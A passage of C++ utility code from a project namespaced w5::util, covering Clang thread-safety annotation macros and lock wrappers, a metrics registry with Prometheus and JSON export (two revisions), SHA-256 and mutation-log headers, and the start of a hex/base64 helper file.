  std::uint64_t s_[4];
};

// Zipf(s, n) sampler over {0, .., n-1}; models skewed popularity of users,
// photos, and modules in the synthetic workloads.
class ZipfGenerator {
 public:
  ZipfGenerator(std::size_t n, double skew, std::uint64_t seed);

  std::size_t next();

 private:
  Rng rng_;
  std::vector<double> cdf_;  // cumulative, normalized
};

}  // namespace w5::util
