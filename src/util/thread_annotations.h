// Clang Thread Safety Analysis support (DESIGN.md §14).
//
// Two halves:
//
//  1. W5_* macros wrapping Clang's thread-safety attributes. Under any
//     compiler without the analysis (GCC, MSVC) they expand to nothing,
//     so the annotated tree builds everywhere; under clang with
//     -Werror=thread-safety every GUARDED_BY / REQUIRES contract is
//     checked at compile time (scripts/ci.sh `lint` stage).
//
//  2. Annotated lock types. The analysis only understands mutexes whose
//     type carries the `capability` attribute and guards whose type is a
//     `scoped_lockable`; libstdc++'s std::mutex / std::lock_guard carry
//     neither, so the platform holds locks through these thin wrappers
//     instead. They add no state and no indirection — each is exactly the
//     std type plus attributes.
//
// Conventions (see DESIGN.md §14 for the full rules):
//   - every mutex-protected member is W5_GUARDED_BY(mutex_);
//   - private helpers that assume the lock use W5_REQUIRES(mutex_) and
//     carry a `_locked` name suffix;
//   - condition-variable waits go through util::UniqueLock and
//     cv.wait(lk.native(), ...) — the capability is held before and
//     after the wait, which is all the (lexical) analysis can see;
//   - functions that take many locks dynamically (e.g. all 16 store
//     shards) are opted out with W5_NO_THREAD_SAFETY_ANALYSIS and must
//     say why in a comment.
//
// Debug builds additionally thread every blocking acquisition through
// the lock-order witness (util/lock_witness.h): each Mutex/SharedMutex
// carries the rank it was constructed with (util/lock_ranks.h), and an
// acquisition that would invert the documented order aborts with both
// lock names. Release builds compile the witness (and the rank fields)
// out entirely.
#pragma once

#include <mutex>
#include <shared_mutex>

#include "util/lock_witness.h"

#if defined(__clang__)
#define W5_THREAD_ANNOTATION(x) __attribute__((x))
#else
#define W5_THREAD_ANNOTATION(x)  // no-op: GCC/MSVC have no TSA
#endif

// Type attributes.
#define W5_CAPABILITY(x) W5_THREAD_ANNOTATION(capability(x))
#define W5_SCOPED_CAPABILITY W5_THREAD_ANNOTATION(scoped_lockable)

// Data-member attributes.
#define W5_GUARDED_BY(x) W5_THREAD_ANNOTATION(guarded_by(x))
#define W5_PT_GUARDED_BY(x) W5_THREAD_ANNOTATION(pt_guarded_by(x))
#define W5_ACQUIRED_BEFORE(...) W5_THREAD_ANNOTATION(acquired_before(__VA_ARGS__))
#define W5_ACQUIRED_AFTER(...) W5_THREAD_ANNOTATION(acquired_after(__VA_ARGS__))

// Function attributes: what the function acquires/releases/assumes.
#define W5_ACQUIRE(...) W5_THREAD_ANNOTATION(acquire_capability(__VA_ARGS__))
#define W5_ACQUIRE_SHARED(...) \
  W5_THREAD_ANNOTATION(acquire_shared_capability(__VA_ARGS__))
#define W5_RELEASE(...) W5_THREAD_ANNOTATION(release_capability(__VA_ARGS__))
#define W5_RELEASE_SHARED(...) \
  W5_THREAD_ANNOTATION(release_shared_capability(__VA_ARGS__))
#define W5_RELEASE_GENERIC(...) \
  W5_THREAD_ANNOTATION(release_generic_capability(__VA_ARGS__))
#define W5_TRY_ACQUIRE(...) \
  W5_THREAD_ANNOTATION(try_acquire_capability(__VA_ARGS__))
#define W5_TRY_ACQUIRE_SHARED(...) \
  W5_THREAD_ANNOTATION(try_acquire_shared_capability(__VA_ARGS__))
#define W5_REQUIRES(...) W5_THREAD_ANNOTATION(requires_capability(__VA_ARGS__))
#define W5_REQUIRES_SHARED(...) \
  W5_THREAD_ANNOTATION(requires_shared_capability(__VA_ARGS__))
#define W5_EXCLUDES(...) W5_THREAD_ANNOTATION(locks_excluded(__VA_ARGS__))
#define W5_ASSERT_CAPABILITY(x) W5_THREAD_ANNOTATION(assert_capability(x))
#define W5_RETURN_CAPABILITY(x) W5_THREAD_ANNOTATION(lock_returned(x))
#define W5_NO_THREAD_SAFETY_ANALYSIS \
  W5_THREAD_ANNOTATION(no_thread_safety_analysis)

namespace w5::util {

// std::mutex with the `capability` attribute. `native()` exposes the
// underlying std::mutex for std::condition_variable (which is typed on
// std::unique_lock<std::mutex>); only UniqueLock should need it.
class W5_CAPABILITY("mutex") Mutex {
 public:
  Mutex() = default;
  // Rank from util/lock_ranks.h; `name` appears in witness diagnostics
  // and should be the registry id ("AuditLog::mutex_").
  explicit Mutex([[maybe_unused]] int rank,
                 [[maybe_unused]] const char* name = "") noexcept {
    set_rank(rank, name);
  }
  Mutex(const Mutex&) = delete;
  Mutex& operator=(const Mutex&) = delete;

  // For instances that cannot take constructor arguments (elements of a
  // sized std::vector<Mutex>); call before the mutex is first shared.
  void set_rank([[maybe_unused]] int rank,
                [[maybe_unused]] const char* name = "") noexcept {
#if defined(W5_LOCK_WITNESS)
    rank_ = rank;
    name_ = name;
#endif
  }

  void lock() W5_ACQUIRE() {
    W5_WITNESS_ACQUIRE(this, rank(), rank_name());
    m_.lock();
  }
  void unlock() W5_RELEASE() {
    W5_WITNESS_RELEASE(this);
    m_.unlock();
  }
  // try_lock never blocks, so it cannot close a wait cycle: successful
  // try-acquisitions are invisible to the witness (lock_witness.h).
  bool try_lock() W5_TRY_ACQUIRE(true) { return m_.try_lock(); }

  int rank() const noexcept {
#if defined(W5_LOCK_WITNESS)
    return rank_;
#else
    return 0;
#endif
  }
  const char* rank_name() const noexcept {
#if defined(W5_LOCK_WITNESS)
    return name_;
#else
    return "";
#endif
  }

  std::mutex& native() { return m_; }

 private:
  std::mutex m_;
#if defined(W5_LOCK_WITNESS)
  int rank_ = 0;
  const char* name_ = "";
#endif
};

// std::shared_mutex with the `capability` attribute: exclusive for
// writers, shared for readers. `native()` is for the rare code that must
// manage std locks directly (e.g. locking all store shards at once);
// such code opts out with W5_NO_THREAD_SAFETY_ANALYSIS.
class W5_CAPABILITY("shared_mutex") SharedMutex {
 public:
  SharedMutex() = default;
  explicit SharedMutex([[maybe_unused]] int rank,
                       [[maybe_unused]] const char* name = "") noexcept {
    set_rank(rank, name);
  }
  SharedMutex(const SharedMutex&) = delete;
  SharedMutex& operator=(const SharedMutex&) = delete;

  void set_rank([[maybe_unused]] int rank,
                [[maybe_unused]] const char* name = "") noexcept {
#if defined(W5_LOCK_WITNESS)
    rank_ = rank;
    name_ = name;
#endif
  }

  void lock() W5_ACQUIRE() {
    W5_WITNESS_ACQUIRE(this, rank(), rank_name());
    m_.lock();
  }
  void unlock() W5_RELEASE() {
    W5_WITNESS_RELEASE(this);
    m_.unlock();
  }
  bool try_lock() W5_TRY_ACQUIRE(true) { return m_.try_lock(); }
  // Shared and exclusive modes block identically for ordering purposes:
  // both are checked against (and recorded on) the held stack.
  void lock_shared() W5_ACQUIRE_SHARED() {
    W5_WITNESS_ACQUIRE(this, rank(), rank_name());
    m_.lock_shared();
  }
  void unlock_shared() W5_RELEASE_SHARED() {
    W5_WITNESS_RELEASE(this);
    m_.unlock_shared();
  }
  bool try_lock_shared() W5_TRY_ACQUIRE_SHARED(true) {
    return m_.try_lock_shared();
  }

  int rank() const noexcept {
#if defined(W5_LOCK_WITNESS)
    return rank_;
#else
    return 0;
#endif
  }
  const char* rank_name() const noexcept {
#if defined(W5_LOCK_WITNESS)
    return name_;
#else
    return "";
#endif
  }

  std::shared_mutex& native() { return m_; }

 private:
  std::shared_mutex m_;
#if defined(W5_LOCK_WITNESS)
  int rank_ = 0;
  const char* name_ = "";
#endif
};

// std::lock_guard<Mutex> equivalent.
class W5_SCOPED_CAPABILITY MutexLock {
 public:
  explicit MutexLock(Mutex& mu) W5_ACQUIRE(mu) : mu_(mu) { mu_.lock(); }
  ~MutexLock() W5_RELEASE() { mu_.unlock(); }

  MutexLock(const MutexLock&) = delete;
  MutexLock& operator=(const MutexLock&) = delete;

 private:
  Mutex& mu_;
};

// std::unique_lock<Mutex> equivalent for condition-variable waits:
// cv.wait(lk.native(), pred). The analysis treats the capability as held
// across the wait (it is, at every point the caller can observe).
// The guards below reach the std lock through native(), bypassing the
// wrapper's instrumented lock()/unlock() — so each notifies the witness
// itself around its own acquire/release points.
class W5_SCOPED_CAPABILITY UniqueLock {
 public:
  explicit UniqueLock(Mutex& mu) W5_ACQUIRE(mu)
      : lk_((W5_WITNESS_ACQUIRE(&mu, mu.rank(), mu.rank_name()),
             mu.native())) {
#if defined(W5_LOCK_WITNESS)
    mu_ = &mu;
#endif
  }
  ~UniqueLock() W5_RELEASE() {
#if defined(W5_LOCK_WITNESS)
    if (lk_.owns_lock()) W5_WITNESS_RELEASE(mu_);
#endif
  }

  UniqueLock(const UniqueLock&) = delete;
  UniqueLock& operator=(const UniqueLock&) = delete;

  void lock() W5_ACQUIRE() {
#if defined(W5_LOCK_WITNESS)
    W5_WITNESS_ACQUIRE(mu_, mu_->rank(), mu_->rank_name());
#endif
    lk_.lock();
  }
  void unlock() W5_RELEASE() {
#if defined(W5_LOCK_WITNESS)
    W5_WITNESS_RELEASE(mu_);
#endif
    lk_.unlock();
  }

  std::unique_lock<std::mutex>& native() { return lk_; }

 private:
  std::unique_lock<std::mutex> lk_;
#if defined(W5_LOCK_WITNESS)
  const Mutex* mu_ = nullptr;
#endif
};

// Exclusive (writer) scope on a SharedMutex. Early unlock() is allowed
// (several call sites drop the lock before a charge or an audit write);
// the std::unique_lock inside keeps the destructor idempotent.
class W5_SCOPED_CAPABILITY WriteLock {
 public:
  explicit WriteLock(SharedMutex& mu) W5_ACQUIRE(mu)
      : lk_((W5_WITNESS_ACQUIRE(&mu, mu.rank(), mu.rank_name()),
             mu.native())) {
#if defined(W5_LOCK_WITNESS)
    mu_ = &mu;
#endif
  }
  ~WriteLock() W5_RELEASE() {
#if defined(W5_LOCK_WITNESS)
    if (lk_.owns_lock()) W5_WITNESS_RELEASE(mu_);
#endif
  }

  WriteLock(const WriteLock&) = delete;
  WriteLock& operator=(const WriteLock&) = delete;

  void lock() W5_ACQUIRE() {
#if defined(W5_LOCK_WITNESS)
    W5_WITNESS_ACQUIRE(mu_, mu_->rank(), mu_->rank_name());
#endif
    lk_.lock();
  }
  void unlock() W5_RELEASE() {
#if defined(W5_LOCK_WITNESS)
    W5_WITNESS_RELEASE(mu_);
#endif
    lk_.unlock();
  }

 private:
  std::unique_lock<std::shared_mutex> lk_;
#if defined(W5_LOCK_WITNESS)
  const SharedMutex* mu_ = nullptr;
#endif
};

// Shared (reader) scope on a SharedMutex; early unlock() allowed.
class W5_SCOPED_CAPABILITY ReadLock {
 public:
  explicit ReadLock(SharedMutex& mu) W5_ACQUIRE_SHARED(mu)
      : lk_((W5_WITNESS_ACQUIRE(&mu, mu.rank(), mu.rank_name()),
             mu.native())) {
#if defined(W5_LOCK_WITNESS)
    mu_ = &mu;
#endif
  }
  ~ReadLock() W5_RELEASE() {
#if defined(W5_LOCK_WITNESS)
    if (lk_.owns_lock()) W5_WITNESS_RELEASE(mu_);
#endif
  }

  ReadLock(const ReadLock&) = delete;
  ReadLock& operator=(const ReadLock&) = delete;

  void lock() W5_ACQUIRE_SHARED() {
#if defined(W5_LOCK_WITNESS)
    W5_WITNESS_ACQUIRE(mu_, mu_->rank(), mu_->rank_name());
#endif
    lk_.lock();
  }
  void unlock() W5_RELEASE_SHARED() {
#if defined(W5_LOCK_WITNESS)
    W5_WITNESS_RELEASE(mu_);
#endif
    lk_.unlock();
  }

 private:
  std::shared_lock<std::shared_mutex> lk_;
#if defined(W5_LOCK_WITNESS)
  const SharedMutex* mu_ = nullptr;
#endif
};

}  // namespace w5::util
