#include "util/metrics.h"

#include <algorithm>
#include <cctype>

namespace w5::util {

namespace {

// Family name for TYPE lines: the metric name with any {labels} stripped.
std::string_view family_of(const std::string& name) {
  const auto brace = name.find('{');
  return std::string_view(name).substr(
      0, brace == std::string::npos ? name.size() : brace);
}

// True when `text` starting at `pos` looks like the start of another
// label (`name=`): used to find a value's closing quote when the value
// itself contains quotes.
bool looks_like_label_start(std::string_view text, std::size_t pos) {
  std::size_t i = pos;
  while (i < text.size() &&
         (std::isalnum(static_cast<unsigned char>(text[i])) != 0 ||
          text[i] == '_')) {
    ++i;
  }
  return i > pos && i < text.size() && text[i] == '=';
}

void append_escaped_label_value(std::string& out, std::string_view value) {
  for (const char c : value) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case '"': out += "\\\""; break;
      case '\n': out += "\\n"; break;
      default: out += c;
    }
  }
}

}  // namespace

std::string prometheus_safe_name(const std::string& name) {
  const std::size_t open = name.find('{');
  if (open == std::string::npos || name.back() != '}') return name;
  const std::string_view inside(name.data() + open + 1,
                                name.size() - open - 2);
  std::string out = name.substr(0, open + 1);
  std::size_t i = 0;
  while (i < inside.size()) {
    // Label name up to '='.
    const std::size_t eq = inside.find('=', i);
    if (eq == std::string_view::npos || eq + 1 >= inside.size() ||
        inside[eq + 1] != '"') {
      // Not label="..." shaped — emit the tail escaped so a stray quote
      // or newline can never break the line structure.
      append_escaped_label_value(out, inside.substr(i));
      break;
    }
    out += inside.substr(i, eq + 2 - i);  // name="
    // The value's closing quote is the next '"' followed by either the
    // end of the block or a ',' that starts another label — so values
    // containing raw quotes still terminate at the right place.
    std::size_t j = eq + 2;
    std::size_t close = std::string_view::npos;
    while (j < inside.size()) {
      if (inside[j] == '"' &&
          (j + 1 == inside.size() ||
           (inside[j + 1] == ',' && looks_like_label_start(inside, j + 2)))) {
        close = j;
        break;
      }
      ++j;
    }
    if (close == std::string_view::npos) {
      append_escaped_label_value(out, inside.substr(eq + 2));
      out += '"';
      break;
    }
    append_escaped_label_value(out, inside.substr(eq + 2, close - (eq + 2)));
    out += '"';
    i = close + 1;
    if (i < inside.size() && inside[i] == ',') {
      out += ',';
      ++i;
    }
  }
  out += '}';
  return out;
}

Histogram::Histogram(std::vector<std::int64_t> bounds)
    : bounds_(std::move(bounds)),
      buckets_(bounds_.size() + 1),
      exemplars_(bounds_.size() + 1) {}

std::vector<std::int64_t> Histogram::default_latency_bounds() {
  return {25,    50,     100,    250,    500,     1000,    2500,   5000,
          10000, 25000,  50000,  100000, 250000,  500000,  1000000};
}

void Histogram::observe(std::int64_t value) noexcept {
#ifndef W5_NO_TELEMETRY
  const auto it = std::lower_bound(bounds_.begin(), bounds_.end(), value);
  const auto index =
      static_cast<std::size_t>(std::distance(bounds_.begin(), it));
  buckets_[index].fetch_add(1, std::memory_order_relaxed);
  count_.fetch_add(1, std::memory_order_relaxed);
  sum_.fetch_add(value, std::memory_order_relaxed);
#else
  (void)value;
#endif
}

void Histogram::observe_with_exemplar(std::int64_t value,
                                      std::string_view trace_ref) noexcept {
#ifndef W5_NO_TELEMETRY
  observe(value);
  if (trace_ref.empty()) return;
  const auto it = std::lower_bound(bounds_.begin(), bounds_.end(), value);
  const auto index =
      static_cast<std::size_t>(std::distance(bounds_.begin(), it));
  // Best-effort: a scrape (or a racing observer) holding the lock means
  // this request's exemplar is simply not remembered.
  if (!exemplar_mutex_.try_lock()) return;
  exemplars_[index].ref.assign(trace_ref.data(), trace_ref.size());
  exemplars_[index].value = value;
  exemplar_mutex_.unlock();
#else
  (void)value;
  (void)trace_ref;
#endif
}

std::vector<Histogram::Exemplar> Histogram::exemplars() const {
  const MutexLock lock(exemplar_mutex_);
  return exemplars_;
}

std::vector<std::uint64_t> Histogram::bucket_counts() const {
  std::vector<std::uint64_t> out(buckets_.size());
  for (std::size_t i = 0; i < buckets_.size(); ++i)
    out[i] = buckets_[i].load(std::memory_order_relaxed);
  return out;
}

double Histogram::percentile(double p) const {
  const auto counts = bucket_counts();
  std::uint64_t total = 0;
  for (const auto c : counts) total += c;
  if (total == 0) return 0;
  p = std::clamp(p, 0.0, 100.0);
  // Rank of the target sample, 1-based; p=0 maps to the first sample.
  const double rank = std::max(1.0, p / 100.0 * static_cast<double>(total));
  std::uint64_t cumulative = 0;
  for (std::size_t i = 0; i < counts.size(); ++i) {
    if (counts[i] == 0) continue;
    const std::uint64_t before = cumulative;
    cumulative += counts[i];
    if (static_cast<double>(cumulative) < rank) continue;
    // The +Inf bucket has no finite upper edge; report the last finite
    // bound (the histogram cannot resolve beyond it).
    if (i >= bounds_.size())
      return bounds_.empty() ? 0 : static_cast<double>(bounds_.back());
    const double lower = i == 0 ? 0 : static_cast<double>(bounds_[i - 1]);
    const double upper = static_cast<double>(bounds_[i]);
    const double fraction =
        (rank - static_cast<double>(before)) / static_cast<double>(counts[i]);
    return lower + fraction * (upper - lower);
  }
  return bounds_.empty() ? 0 : static_cast<double>(bounds_.back());
}

Counter& MetricsRegistry::counter(const std::string& name) {
  const MutexLock lock(mutex_);
  auto& slot = counters_[name];
  if (slot == nullptr) slot = std::make_unique<Counter>();
  return *slot;
}

Gauge& MetricsRegistry::gauge(const std::string& name) {
  const MutexLock lock(mutex_);
  auto& slot = gauges_[name];
  if (slot == nullptr) slot = std::make_unique<Gauge>();
  return *slot;
}

Histogram& MetricsRegistry::histogram(const std::string& name,
                                      std::vector<std::int64_t> bounds) {
  const MutexLock lock(mutex_);
  auto& slot = histograms_[name];
  if (slot == nullptr) {
    slot = std::make_unique<Histogram>(
        bounds.empty() ? Histogram::default_latency_bounds()
                       : std::move(bounds));
  }
  return *slot;
}

std::string MetricsRegistry::to_prometheus() const {
  const MutexLock lock(mutex_);
  std::string out;
  out.reserve(4096);
  const auto emit_type = [&out](std::string_view family,
                                std::string_view type,
                                std::string_view& last_family) {
    if (family == last_family) return;
    out += "# TYPE ";
    out += family;
    out += ' ';
    out += type;
    out += '\n';
    last_family = family;
  };

  std::string_view last_family;
  for (const auto& [name, counter] : counters_) {
    emit_type(family_of(name), "counter", last_family);
    out += prometheus_safe_name(name);
    out += ' ';
    out += std::to_string(counter->value());
    out += '\n';
  }
  last_family = {};
  for (const auto& [name, gauge] : gauges_) {
    emit_type(family_of(name), "gauge", last_family);
    out += prometheus_safe_name(name);
    out += ' ';
    out += std::to_string(gauge->value());
    out += '\n';
  }
  last_family = {};
  for (const auto& [name, histogram] : histograms_) {
    const std::string safe = prometheus_safe_name(name);
    const std::string_view fam = family_of(safe);
    emit_type(fam, "histogram", last_family);
    // A labeled family ('w5_reactor_stage_micros{stage="parse"}') folds
    // its labels into every series so le= joins the existing block:
    //   w5_reactor_stage_micros_bucket{stage="parse",le="100"}.
    const bool labeled = safe.size() > fam.size();
    const std::string labels =  // '{stage="parse"' — reopened per line
        labeled ? safe.substr(fam.size(), safe.size() - fam.size() - 1)
                : std::string{};
    const auto counts = histogram->bucket_counts();
    const auto& bounds = histogram->bounds();
    const auto exemplars = histogram->exemplars();
    std::uint64_t cumulative = 0;
    for (std::size_t i = 0; i < counts.size(); ++i) {
      cumulative += counts[i];
      out += fam;
      out += "_bucket";
      out += labeled ? labels + ",le=\"" : "{le=\"";
      out += i < bounds.size() ? std::to_string(bounds[i]) : "+Inf";
      out += "\"} ";
      out += std::to_string(cumulative);
      // OpenMetrics-style exemplar: the bucket's most recent traced
      // observation, resolvable at /trace/:id.
      if (i < exemplars.size() && !exemplars[i].ref.empty()) {
        out += " # {trace_id=\"";
        append_escaped_label_value(out, exemplars[i].ref);
        out += "\"} ";
        out += std::to_string(exemplars[i].value);
      }
      out += '\n';
    }
    const auto emit_scalar = [&](std::string_view suffix, std::string v) {
      out += fam;
      out += suffix;
      if (labeled) {
        out += labels;
        out += '}';
      }
      out += ' ';
      out += v;
      out += '\n';
    };
    emit_scalar("_sum", std::to_string(histogram->sum()));
    emit_scalar("_count", std::to_string(histogram->count()));
  }
  return out;
}

Json MetricsRegistry::to_json() const {
  const MutexLock lock(mutex_);
  Json counters{JsonObject{}};
  for (const auto& [name, counter] : counters_)
    counters[name] = counter->value();
  Json gauges{JsonObject{}};
  for (const auto& [name, gauge] : gauges_) gauges[name] = gauge->value();
  Json histograms{JsonObject{}};
  for (const auto& [name, histogram] : histograms_) {
    Json entry;
    entry["count"] = histogram->count();
    entry["sum"] = histogram->sum();
    entry["p50"] = histogram->percentile(50);
    entry["p90"] = histogram->percentile(90);
    entry["p99"] = histogram->percentile(99);
    Json buckets = Json::array();
    const auto counts = histogram->bucket_counts();
    const auto& bounds = histogram->bounds();
    const auto exemplars = histogram->exemplars();
    for (std::size_t i = 0; i < counts.size(); ++i) {
      Json bucket;
      bucket["le"] = i < bounds.size() ? Json(bounds[i]) : Json("+Inf");
      bucket["count"] = counts[i];
      if (i < exemplars.size() && !exemplars[i].ref.empty()) {
        Json exemplar;
        exemplar["trace_id"] = exemplars[i].ref;
        exemplar["value"] = exemplars[i].value;
        bucket["exemplar"] = std::move(exemplar);
      }
      buckets.push_back(std::move(bucket));
    }
    entry["buckets"] = std::move(buckets);
    histograms[name] = std::move(entry);
  }
  Json out;
  out["counters"] = std::move(counters);
  out["gauges"] = std::move(gauges);
  out["histograms"] = std::move(histograms);
  return out;
}

}  // namespace w5::util
