#include "util/metrics.h"

#include <algorithm>

namespace w5::util {

namespace {

// Family name for TYPE lines: the metric name with any {labels} stripped.
std::string_view family_of(const std::string& name) {
  const auto brace = name.find('{');
  return std::string_view(name).substr(
      0, brace == std::string::npos ? name.size() : brace);
}

}  // namespace

Histogram::Histogram(std::vector<std::int64_t> bounds)
    : bounds_(std::move(bounds)), buckets_(bounds_.size() + 1) {}

std::vector<std::int64_t> Histogram::default_latency_bounds() {
  return {25,    50,     100,    250,    500,     1000,    2500,   5000,
          10000, 25000,  50000,  100000, 250000,  500000,  1000000};
}

void Histogram::observe(std::int64_t value) noexcept {
#ifndef W5_NO_TELEMETRY
  const auto it = std::lower_bound(bounds_.begin(), bounds_.end(), value);
  const auto index =
      static_cast<std::size_t>(std::distance(bounds_.begin(), it));
  buckets_[index].fetch_add(1, std::memory_order_relaxed);
  count_.fetch_add(1, std::memory_order_relaxed);
  sum_.fetch_add(value, std::memory_order_relaxed);
#else
  (void)value;
#endif
}

std::vector<std::uint64_t> Histogram::bucket_counts() const {
  std::vector<std::uint64_t> out(buckets_.size());
  for (std::size_t i = 0; i < buckets_.size(); ++i)
    out[i] = buckets_[i].load(std::memory_order_relaxed);
  return out;
}

double Histogram::percentile(double p) const {
  const auto counts = bucket_counts();
  std::uint64_t total = 0;
  for (const auto c : counts) total += c;
  if (total == 0) return 0;
  p = std::clamp(p, 0.0, 100.0);
  // Rank of the target sample, 1-based; p=0 maps to the first sample.
  const double rank = std::max(1.0, p / 100.0 * static_cast<double>(total));
  std::uint64_t cumulative = 0;
  for (std::size_t i = 0; i < counts.size(); ++i) {
    if (counts[i] == 0) continue;
    const std::uint64_t before = cumulative;
    cumulative += counts[i];
    if (static_cast<double>(cumulative) < rank) continue;
    // The +Inf bucket has no finite upper edge; report the last finite
    // bound (the histogram cannot resolve beyond it).
    if (i >= bounds_.size())
      return bounds_.empty() ? 0 : static_cast<double>(bounds_.back());
    const double lower = i == 0 ? 0 : static_cast<double>(bounds_[i - 1]);
    const double upper = static_cast<double>(bounds_[i]);
    const double fraction =
        (rank - static_cast<double>(before)) / static_cast<double>(counts[i]);
    return lower + fraction * (upper - lower);
  }
  return bounds_.empty() ? 0 : static_cast<double>(bounds_.back());
}

Counter& MetricsRegistry::counter(const std::string& name) {
  const MutexLock lock(mutex_);
  auto& slot = counters_[name];
  if (slot == nullptr) slot = std::make_unique<Counter>();
  return *slot;
}

Gauge& MetricsRegistry::gauge(const std::string& name) {
  const MutexLock lock(mutex_);
  auto& slot = gauges_[name];
  if (slot == nullptr) slot = std::make_unique<Gauge>();
  return *slot;
}

Histogram& MetricsRegistry::histogram(const std::string& name,
                                      std::vector<std::int64_t> bounds) {
  const MutexLock lock(mutex_);
  auto& slot = histograms_[name];
  if (slot == nullptr) {
    slot = std::make_unique<Histogram>(
        bounds.empty() ? Histogram::default_latency_bounds()
                       : std::move(bounds));
  }
  return *slot;
}

std::string MetricsRegistry::to_prometheus() const {
  const MutexLock lock(mutex_);
  std::string out;
  out.reserve(4096);
  const auto emit_type = [&out](std::string_view family,
                                std::string_view type,
                                std::string_view& last_family) {
    if (family == last_family) return;
    out += "# TYPE ";
    out += family;
    out += ' ';
    out += type;
    out += '\n';
    last_family = family;
  };

  std::string_view last_family;
  for (const auto& [name, counter] : counters_) {
    emit_type(family_of(name), "counter", last_family);
    out += name;
    out += ' ';
    out += std::to_string(counter->value());
    out += '\n';
  }
  last_family = {};
  for (const auto& [name, gauge] : gauges_) {
    emit_type(family_of(name), "gauge", last_family);
    out += name;
    out += ' ';
    out += std::to_string(gauge->value());
    out += '\n';
  }
  for (const auto& [name, histogram] : histograms_) {
    out += "# TYPE ";
    out += name;
    out += " histogram\n";
    const auto counts = histogram->bucket_counts();
    const auto& bounds = histogram->bounds();
    std::uint64_t cumulative = 0;
    for (std::size_t i = 0; i < counts.size(); ++i) {
      cumulative += counts[i];
      out += name;
      out += "_bucket{le=\"";
      out += i < bounds.size() ? std::to_string(bounds[i]) : "+Inf";
      out += "\"} ";
      out += std::to_string(cumulative);
      out += '\n';
    }
    out += name;
    out += "_sum ";
    out += std::to_string(histogram->sum());
    out += '\n';
    out += name;
    out += "_count ";
    out += std::to_string(histogram->count());
    out += '\n';
  }
  return out;
}

Json MetricsRegistry::to_json() const {
  const MutexLock lock(mutex_);
  Json counters{JsonObject{}};
  for (const auto& [name, counter] : counters_)
    counters[name] = counter->value();
  Json gauges{JsonObject{}};
  for (const auto& [name, gauge] : gauges_) gauges[name] = gauge->value();
  Json histograms{JsonObject{}};
  for (const auto& [name, histogram] : histograms_) {
    Json entry;
    entry["count"] = histogram->count();
    entry["sum"] = histogram->sum();
    entry["p50"] = histogram->percentile(50);
    entry["p90"] = histogram->percentile(90);
    entry["p99"] = histogram->percentile(99);
    Json buckets = Json::array();
    const auto counts = histogram->bucket_counts();
    const auto& bounds = histogram->bounds();
    for (std::size_t i = 0; i < counts.size(); ++i) {
      Json bucket;
      bucket["le"] = i < bounds.size() ? Json(bounds[i]) : Json("+Inf");
      bucket["count"] = counts[i];
      buckets.push_back(std::move(bucket));
    }
    entry["buckets"] = std::move(buckets);
    histograms[name] = std::move(entry);
  }
  Json out;
  out["counters"] = std::move(counters);
  out["gauges"] = std::move(gauges);
  out["histograms"] = std::move(histograms);
  return out;
}

}  // namespace w5::util
