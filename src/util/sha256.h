// SHA-256 (FIPS 180-4), used for password hashing (salted), session token
// derivation, content fingerprints in the module registry, and snapshot
// checksums in the durability plane. The class is incremental
// (init/update/final): snapshot files are hashed chunk-by-chunk as they
// stream to and from disk, never buffering the whole file for the digest.
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <string_view>

namespace w5::util {

class Sha256 {
 public:
  static constexpr std::size_t kDigestSize = 32;

  Sha256();

  void update(std::string_view data);

  // Finalizes and returns the raw 32-byte digest. The object must not be
  // reused afterwards without reset().
  std::array<std::uint8_t, kDigestSize> finish();

  // Finalizes and returns the 64-char lowercase hex digest.
  std::string finish_hex();

  // Returns the object to its freshly-constructed state so one instance
  // can hash a sequence of streams (the snapshot verifier reuses one
  // hasher across candidate files).
  void reset();

 private:
  void process_block(const std::uint8_t* block);

  std::array<std::uint32_t, 8> state_;
  std::array<std::uint8_t, 64> buffer_;
  std::size_t buffered_ = 0;
  std::uint64_t total_bytes_ = 0;
};

// One-shot helpers.
std::string sha256_raw(std::string_view data);  // 32 raw bytes
std::string sha256_hex(std::string_view data);  // 64 hex chars

}  // namespace w5::util
