// SHA-256 (FIPS 180-4), used for password hashing (salted), session token
// derivation, and content fingerprints in the module registry.
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <string_view>

namespace w5::util {

class Sha256 {
 public:
  static constexpr std::size_t kDigestSize = 32;

  Sha256();

  void update(std::string_view data);

  // Finalizes and returns the raw 32-byte digest. The object must not be
  // reused afterwards (construct a fresh one).
  std::array<std::uint8_t, kDigestSize> finish();

 private:
  void process_block(const std::uint8_t* block);

  std::array<std::uint32_t, 8> state_;
  std::array<std::uint8_t, 64> buffer_;
  std::size_t buffered_ = 0;
  std::uint64_t total_bytes_ = 0;
};

// One-shot helpers.
std::string sha256_raw(std::string_view data);  // 32 raw bytes
std::string sha256_hex(std::string_view data);  // 64 hex chars

}  // namespace w5::util
