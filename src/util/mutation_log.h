// The hook durable components publish mutations through (DESIGN.md §13).
//
// Lives in util (the dependency root) so every labeled container — the
// store, the filesystem, the tag registry, policies, user accounts — can
// log without depending on the durability plane that implements it. The
// two-call shape is deliberate: log() is called *inside* the component's
// lock (it only assigns a sequence number and enqueues, so commit order
// matches lock order), while wait_durable() is called *after* the lock is
// released, so no component lock is ever held across an fsync.
#pragma once

#include <cstdint>

#include "util/result.h"

namespace w5::util {

class Json;

class MutationLog {
 public:
  virtual ~MutationLog() = default;

  // Enqueues one mutation (a self-describing JSON op) and returns its
  // monotone sequence number. Returns 0 if the log is closed, has failed,
  // or rejected the op (e.g. oversized); wait_durable(0) reports why.
  virtual std::uint64_t log(const Json& op) = 0;

  // Blocks until `seq` is durable per the configured durability mode
  // (returns promptly for interval/none modes). Never call while holding
  // the lock under which `seq` was assigned. An error means the mutation
  // is NOT durable — the log failed, closed, or refused the op — and the
  // caller must fail the request rather than acknowledge it.
  virtual util::Status wait_durable(std::uint64_t seq) = 0;
};

}  // namespace w5::util
