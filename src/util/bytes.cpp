#include "util/bytes.h"

#include <array>

namespace w5::util {

namespace {

constexpr char kHexDigits[] = "0123456789abcdef";

int hex_value(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

constexpr char kB64[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
constexpr char kB64Url[] =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

